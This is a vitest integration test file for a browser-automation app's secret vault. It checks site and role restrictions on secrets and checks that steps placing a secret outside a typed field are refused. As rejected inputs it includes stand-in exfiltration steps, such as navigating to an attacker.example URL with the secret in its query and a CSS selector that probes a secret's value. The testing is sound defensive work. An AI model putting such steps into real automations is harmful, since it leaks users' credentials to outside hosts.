import { eq } from 'drizzle-orm'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { automationRuns, automations, vaultSecrets, workspaceMembers, workspaces } from '#server/db/schema/index.ts'
import { createScheduler } from '#server/features/runs/scheduler.ts'
import { createTestApp, type TestApp } from '#server/testing/create-test-app.ts'

// Secrets bound to fields, sites and roles, as saving and starting see it (docs/decisions/039):
// a secret names the sites it may be typed on (required, normalised) and the least role whose
// automations may use it; a step may only type it into a field; a step that places it anywhere
// else is refused with the step and field; a secret without sites, or one kept for a higher role,
// is refused on save and when a run is queued, for sessions, API keys, device tokens, trigger
// URLs and schedules alike. (The executor's own checks, in a real browser: secret-typing.test.ts.)

type Account = Awaited<ReturnType<TestApp['signUp']>>
type Secret = { id: string; name: string; origins: string[]; useRole: string; originsSetFromSteps: boolean }
type Issue = { path: string; message: string }
type Answer<T> = { status: number; data: T; message?: string; code?: string; issues?: Issue[] }

const ORIGIN = 'https://app.example.com'

let t: TestApp
let owner: Account
let admin: Account
let member: Account
let team: string

async function call<T>(
  credential: Account | string | null,
  path: string,
  init: { method?: string; body?: unknown; workspace?: string | null } = {},
): Promise<Answer<T>> {
  const workspace = init.workspace === undefined ? team : init.workspace
  const response = await t.request(path, {
    method: init.method,
    body: init.body,
    token: typeof credential === 'string' || credential === null ? (credential ?? undefined) : credential.token,
    headers: workspace ? { 'x-workspace-id': workspace } : {},
  })
  const text = await response.text()
  return { status: response.status, ...(text ? (JSON.parse(text) as Omit<Answer<T>, 'status'>) : { data: undefined as T }) }
}

const addSecret = (account: Account, body: Record<string, unknown>) => call<Secret>(account, '/api/vault', { body })
const saveAutomation = (credential: Account | string, steps: unknown[], name = 'Sign in') =>
  call<{ id: string }>(credential, '/api/automations', { body: { name, steps } })

const signIn = (text: string) => [
  { type: 'navigate', url: `${ORIGIN}/login` },
  { type: 'type', target: [{ by: 'label', text: 'Token' }], text },
]

async function apiKeyOf(account: Account): Promise<string> {
  const created = await call<{ key: string }>(account, '/api/keys', { body: { name: 'script' } })
  expect(created.status, created.message).toBe(201)
  return created.data.key
}

/** A device of the team, connected by the account through the pairing flow. */
async function deviceOf(account: Account): Promise<string> {
  const asked = await t.request('/api/devices/pairings', { body: { name: 'Laptop', kind: 'extension', version: '1.0.0' }, ip: t.freshIp() })
  const pairing = ((await asked.json()) as { data: { pairingId: string; userCode: string; pollSecret: string } }).data
  await t.services.pairings.approve(pairing.userCode, { id: account.id, email: account.email, twoFactorEnabled: false }, team, t.freshIp())
  const collected = await t.request(`/api/devices/pairings/${pairing.pairingId}/token`, { body: { pollSecret: pairing.pollSecret } })
  return ((await collected.json()) as { data: { token: string } }).data.token
}

beforeAll(async () => {
  t = await createTestApp()
  owner = await t.signUp()
  admin = await t.signUp()
  member = await t.signUp()
  await t.db.update(workspaces).set({ planSlug: 'business', credits: 100 }).where(eq(workspaces.id, owner.id))
  team = (await call<{ id: string }>(owner, '/api/workspaces', { body: { name: 'Secrets team' }, workspace: null })).data.id
  await t.db.update(workspaces).set({ planSlug: 'business', credits: 100 }).where(eq(workspaces.id, team))
  await t.db.insert(workspaceMembers).values([
    { workspaceId: team, userId: admin.id, role: 'admin' },
    { workspaceId: team, userId: member.id, role: 'member' },
  ])
  for (const [name, useRole] of [
    ['shared_login', 'member'],
    ['admin_token', 'admin'],
  ])
    expect((await addSecret(owner, { name, kind: 'value', value: `${name}-value-123`, origins: [ORIGIN], useRole })).status).toBe(201)
})
afterAll(async () => {
  await t?.close()
})

describe('the sites a secret may be typed on', () => {
  it('are required when it is added, and kept as origins, each once', async () => {
    const missing = await addSecret(owner, { name: 'no_sites', kind: 'value', value: 'abc-123' })
    expect(missing.status).toBe(400)
    expect(missing.issues?.[0]?.path).toBe('origins')
    const none = await addSecret(owner, { name: 'no_sites', kind: 'value', value: 'abc-123', origins: ['  '] })
    expect(none).toMatchObject({ status: 400, issues: [{ path: 'origins' }] })
    expect(none.message).toContain('Name at least one site')

    const created = await addSecret(owner, {
      name: 'normalised',
      kind: 'value',
      value: 'abc-123',
      origins: ['https://App.Example.com/login?next=1', 'app.example.com', 'http://127.0.0.1:8080/x', 'https://shop.example.com:443/'],
    })
    expect(created.status, created.message).toBe(201)
    expect(created.data).toMatchObject({
      origins: ['https://app.example.com', 'http://127.0.0.1:8080', 'https://shop.example.com'],
      useRole: 'member',
      originsSetFromSteps: false,
    })
  })

  it('refuses what is no web origin, saying why', async () => {
    for (const [origin, words] of [
      ['ftp://files.example.com', 'only http and https'],
      ['https://*.example.com', 'wildcards are not allowed'],
      ['https://user:pw@app.example.com', 'leave the user name and password out'],
      ['javascript:alert(1)', 'only http and https'],
      ['https://{{input.host}}/', 'cannot hold a placeholder'],
      ['not a site at all', 'is not a web address'],
    ]) {
      const refused = await addSecret(owner, { name: 'bad_site', kind: 'value', value: 'abc-123', origins: [origin] })
      expect(refused.status, origin).toBe(400)
      expect(refused.issues?.[0]?.path, origin).toBe('origins')
      expect(refused.message, origin).toContain(words)
    }
    const many = Array.from({ length: 21 }, (_, i) => `https://site-${i}.example.com`)
    expect((await addSecret(owner, { name: 'bad_site', kind: 'value', value: 'abc-123', origins: many })).message).toContain('at most 20')
  })

  it('are changed with PATCH; only a right value confirms origins taken from the automations', async () => {
    const created = await addSecret(owner, { name: 'migrated', kind: 'value', value: 'abc-123', origins: [ORIGIN] })
    // As migration 0023 leaves a secret whose origins it took from the steps.
    await t.db.update(vaultSecrets).set({ originsFromStepsAt: new Date() }).where(eq(vaultSecrets.id, created.data.id))
    expect((await call<Secret[]>(member, '/api/vault')).data.find((secret) => secret.name === 'migrated')?.originsSetFromSteps).toBe(true)

    // Saving them without the value keeps them unconfirmed (before the amendment of 039, any save confirmed them).
    const kept = await call<Secret>(member, `/api/vault/${created.data.id}`, { method: 'PATCH', body: { origins: [ORIGIN] } })
    expect(kept.status, kept.message).toBe(200)
    expect(kept.data).toMatchObject({ origins: [ORIGIN], originsSetFromSteps: true })

    const changed = await call<Secret>(member, `/api/vault/${created.data.id}`, {
      method: 'PATCH',
      body: { origins: ['https://app.example.com', 'https://auth.example.com/sso'], value: 'abc-123' },
    })
    expect(changed.status, changed.message).toBe(200)
    expect(changed.data).toMatchObject({ origins: [ORIGIN, 'https://auth.example.com'], originsSetFromSteps: false })
    expect((await call(member, `/api/vault/${created.data.id}`, { method: 'PATCH', body: {} })).status).toBe(400)
    expect((await call(member, `/api/vault/${created.data.id}`, { method: 'PATCH', body: { origins: [] } })).status).toBe(400)
    expect((await call(member, `/api/vault/${created.data.id}`, { method: 'PATCH', body: { useRole: 'viewer' } })).status).toBe(400)
    const activity = await call<{ summary: string }[]>(member, '/api/workspaces/current/activity')
    expect(activity.data.map((entry) => entry.summary)).toContain(
      'Set where migrated may be typed (https://app.example.com, https://auth.example.com) and who may use it (members, admins and the owner), confirming the sites set from the automations',
    )
  })
})

describe('who may use a secret', () => {
  it('is at most the role of whoever sets it, and a secret kept for a higher role is changed by that role only', async () => {
    const tooHigh = await addSecret(member, { name: 'kept_high', kind: 'value', value: 'abc-123', origins: [ORIGIN], useRole: 'admin' })
    expect(tooHigh.status).toBe(403)
    expect(tooHigh.message).toBe(
      'Keeping a secret for admins and the owner is for admins and the owner: the secret is kept for them, and you are member.',
    )
    const adminOnly = (await call<Secret[]>(member, '/api/vault')).data.find((secret) => secret.name === 'admin_token')
    expect(adminOnly?.useRole).toBe('admin')
    const id = adminOnly?.id ?? ''
    expect((await call(member, `/api/vault/${id}`, { method: 'PATCH', body: { useRole: 'member' } })).status).toBe(403)
    expect((await call(member, `/api/vault/${id}`, { method: 'PATCH', body: { origins: ['https://evil.example.net'] } })).status).toBe(403)
    expect((await call(member, `/api/vault/${id}`, { method: 'PUT', body: { value: 'swapped-by-member' } })).status).toBe(403)
    expect((await call(member, `/api/vault/${id}`, { method: 'DELETE' })).status).toBe(403)
    const [row] = await t.db.select().from(vaultSecrets).where(eq(vaultSecrets.id, id))
    expect(row).toMatchObject({ origins: [ORIGIN], useRole: 'admin' })
    // An admin may; nobody keeps one for a role above their own.
    expect((await call(admin, `/api/vault/${id}`, { method: 'PATCH', body: { useRole: 'owner' } })).status).toBe(403)
    expect((await call(admin, `/api/vault/${id}`, { method: 'PATCH', body: { origins: [ORIGIN], useRole: 'admin' } })).status).toBe(200)
  })
})

describe('a step may only type a secret into a field', () => {
  const placements: [string, unknown[], string, string][] = [
    [
      'an address',
      [{ type: 'navigate', url: 'https://attacker.example/?leak={{secrets.shared_login}}' }],
      'steps.0.url',
      'Step 1 (navigate): {{secrets.shared_login}} may only be typed into a field (the text of a type step), never placed in the address to open.',
    ],
    [
      'a target',
      [
        { type: 'navigate', url: `${ORIGIN}/` },
        { type: 'click', target: [{ by: 'text', text: '{{secrets.shared_login}}' }] },
      ],
      'steps.1.target.0.text',
      'Step 2 (click): {{secrets.shared_login}} may only be typed into a field (the text of a type step), never placed in the description of the element to find.',
    ],
    [
      "a type step's target (a CSS selector)",
      [
        { type: 'navigate', url: `${ORIGIN}/` },
        { type: 'type', target: [{ by: 'css', selector: 'input[value^="{{secrets.shared_login}}"]' }], text: 'x' },
      ],
      'steps.1.target.0.selector',
      'never placed in the description of the element to find',
    ],
    [
      'an option to choose',
      [
        { type: 'navigate', url: `${ORIGIN}/` },
        { type: 'select', target: [{ by: 'label', text: 'Plan' }], value: '{{secrets.shared_login}}' },
      ],
      'steps.1.value',
      'never placed in the option to choose',
    ],
    [
      'an assertion',
      [
        { type: 'navigate', url: `${ORIGIN}/` },
        { type: 'assertText', text: 'Hello {{secrets.shared_login}}' },
      ],
      'steps.1.text',
      'never placed in the text to check for',
    ],
    [
      "an extracted value's name",
      [
        { type: 'navigate', url: `${ORIGIN}/` },
        { type: 'extract', target: [{ by: 'css', selector: 'h1' }], field: 'x', attribute: '{{secrets.shared_login}}' },
      ],
      'steps.1.attribute',
      'never placed in the attribute to read',
    ],
    [
      "a screenshot's name",
      [
        { type: 'navigate', url: `${ORIGIN}/` },
        { type: 'screenshot', name: '{{secrets.shared_login}}' },
      ],
      'steps.1.name',
      "never placed in the screenshot's name",
    ],
    [
      "a wait's target",
      [
        { type: 'navigate', url: `${ORIGIN}/` },
        { type: 'wait', target: [{ by: 'placeholder', text: '{{totp.code}}' }] },
      ],
      'steps.1.target.0.text',
      'Step 2 (wait): {{totp.code}} may only be typed into a field',
    ],
  ]

  for (const [where, steps, path, message] of placements) {
    it(`refuses a secret in ${where}, naming the step and its field`, async () => {
      const refused = await saveAutomation(member, steps)
      expect(refused.status).toBe(400)
      expect(refused.code).toBe('VALIDATION_ERROR')
      expect(refused.message).toContain(message)
      expect(refused.issues).toEqual([{ path, message: refused.message }])
    })
  }

  it('refuses the same through an API key and on a change, and keeps the automation as it was', async () => {
    const key = await apiKeyOf(member)
    expect((await saveAutomation(key, placements[0]?.[1] ?? [])).status).toBe(400)
    const saved = await saveAutomation(member, signIn('{{secrets.shared_login}}'))
    expect(saved.status, saved.message).toBe(201)
    const changed = await call(member, `/api/automations/${saved.data.id}`, {
      method: 'PUT',
      body: { steps: [...signIn('{{secrets.shared_login}}'), { type: 'navigate', url: 'https://x.example/{{secrets.shared_login}}' }] },
    })
    expect(changed).toMatchObject({ status: 400, issues: [{ path: 'steps.2.url' }] })
    const [row] = await t.db.select().from(automations).where(eq(automations.id, saved.data.id))
    expect(row?.steps).toHaveLength(2)
  })

  it('does not apply a fix whose target names a secret (a repair found on a page that showed one back)', async () => {
    const saved = await saveAutomation(member, signIn('{{secrets.shared_login}}'))
    const caller = {
      id: member.id,
      email: member.email,
      emailVerified: true,
      role: 'user' as const,
      workspace: { id: team, role: 'member' as const },
    }
    const [row] = await t.db.select().from(automations).where(eq(automations.id, saved.data.id))
    const before = row?.steps[1]
    if (!before) throw new Error('no step 2')
    await expect(
      t.services.automations.applyTarget(saved.data.id, caller, {
        index: 1,
        before,
        target: [{ by: 'text', text: 'Hello {{secrets.shared_login}}' }],
      }),
    ).rejects.toThrow('This fix names {{secrets.shared_login}} to find the element; edit step 2 in the builder instead.')
  })

  it('accepts it in the text a type step types, alone or with other words', async () => {
    const saved = await saveAutomation(member, signIn('user {{secrets.shared_login}} {{ secrets.shared_login }}'))
    expect(saved.status, saved.message).toBe(201)
  })

  it('refuses a secret that names no site yet, saying where to name one', async () => {
    const created = await addSecret(owner, { name: 'siteless', kind: 'value', value: 'abc-123', origins: [ORIGIN] })
    // As migration 0020 leaves a secret no step typed.
    await t.db.update(vaultSecrets).set({ origins: [] }).where(eq(vaultSecrets.id, created.data.id))
    const refused = await saveAutomation(member, signIn('{{secrets.siteless}}'))
    expect(refused).toMatchObject({ status: 400, issues: [{ path: 'steps.1.text' }] })
    expect(refused.message).toBe(
      'Step 2 uses {{secrets.siteless}}, but siteless names no site it may be typed on yet: name its sites in Vault first.',
    )
  })
})

describe('a secret kept for a higher role', () => {
  let adminsAutomation: string

  beforeAll(async () => {
    const saved = await saveAutomation(admin, signIn('{{secrets.admin_token}}'), 'Admin sign-in')
    expect(saved.status, saved.message).toBe(201)
    adminsAutomation = saved.data.id
  })

  it('is refused in a member’s steps, by session, API key and device token alike', async () => {
    const expected = 'Step 2 uses {{secrets.admin_token}}, which only admins and the owner may use in their automations; you are member.'
    for (const credential of [member, await apiKeyOf(member), await deviceOf(member)]) {
      const refused = await saveAutomation(credential, signIn('{{secrets.admin_token}}'))
      expect(refused).toMatchObject({
        status: 403,
        code: 'FORBIDDEN',
        message: expected,
        issues: [{ path: 'steps.1.text', message: expected }],
      })
    }
    const changed = await call(member, `/api/automations/${adminsAutomation}`, {
      method: 'PUT',
      body: { steps: signIn('{{secrets.admin_token}} ') },
    })
    expect(changed.status).toBe(403)
  })

  it('is refused when a member starts a run of it, by session, API key and device token alike; an admin may', async () => {
    const expected =
      'Step 2 uses the secret admin_token, which only admins and the owner may use in their automations; the run would start as member.'
    for (const credential of [member, await apiKeyOf(member), await deviceOf(member)]) {
      const refused = await call(credential, `/api/automations/${adminsAutomation}/runs`, { body: { where: 'cloud' } })
      expect(refused).toMatchObject({ status: 403, message: expected })
    }
    expect(await t.db.select().from(automationRuns).where(eq(automationRuns.automationId, adminsAutomation))).toEqual([])
    expect((await call(admin, `/api/automations/${adminsAutomation}/runs`, { body: { where: 'cloud' } })).status).toBe(201)
  })

  it('is refused when the person behind a trigger URL or a schedule is no longer allowed', async () => {
    const issued = await call<{ secret: string }>(admin, `/api/automations/${adminsAutomation}/trigger`, { method: 'POST' })
    expect(issued.status, issued.message).toBe(201)
    await t.db
      .update(automations)
      .set({
        schedule: { kind: 'interval', every: 60, unit: 'minutes', timeZone: 'UTC' },
        enabled: true,
        nextRunAt: new Date(Date.now() - 1000),
      })
      .where(eq(automations.id, adminsAutomation))
    // The admin becomes a member: what they set up runs as a member now.
    await t.db.update(workspaceMembers).set({ role: 'member' }).where(eq(workspaceMembers.userId, admin.id))
    try {
      const fired = await call(null, `/api/triggers/${issued.data.secret}`, { method: 'POST', body: {}, workspace: null })
      expect(fired).toMatchObject({ status: 403 })
      expect(fired.message).toContain('only admins and the owner may use')
      const scheduler = createScheduler({ db: t.db, runs: t.services.runs, logger: pino({ level: 'silent' }) })
      expect(await scheduler.tick()).toEqual({ started: 0, refused: 1 })
      const runs = await t.db.select().from(automationRuns).where(eq(automationRuns.automationId, adminsAutomation))
      expect(runs.find((run) => run.trigger === 'schedule')?.error).toContain('only admins and the owner may use in their automations')
    } finally {
      await t.db.update(workspaceMembers).set({ role: 'admin' }).where(eq(workspaceMembers.userId, admin.id))
    }
  })
})

describe('steps stored before the rule', () => {
  it('do not start: the step and field are named, and nothing is charged', async () => {
    const saved = await saveAutomation(member, signIn('{{secrets.shared_login}}'))
    // As an automation saved before migration 0020 may hold it.
    await t.db
      .update(automations)
      .set({ steps: [{ type: 'navigate', url: 'https://attacker.example/?leak={{secrets.shared_login}}' }] })
      .where(eq(automations.id, saved.data.id))
    const [before] = await t.db.select({ credits: workspaces.credits }).from(workspaces).where(eq(workspaces.id, team))
    const refused = await call(member, `/api/automations/${saved.data.id}/runs`, { body: { where: 'cloud' } })
    expect(refused).toMatchObject({ status: 400, issues: [{ path: 'steps.0.url' }] })
    expect(refused.message).toBe(
      'Step 1 (navigate): {{secrets.shared_login}} may only be typed into a field (the text of a type step), never placed in the address to open. Change the step first.',
    )
    const [after] = await t.db.select({ credits: workspaces.credits }).from(workspaces).where(eq(workspaces.id, team))
    expect(after?.credits).toBe(before?.credits)
  })
})
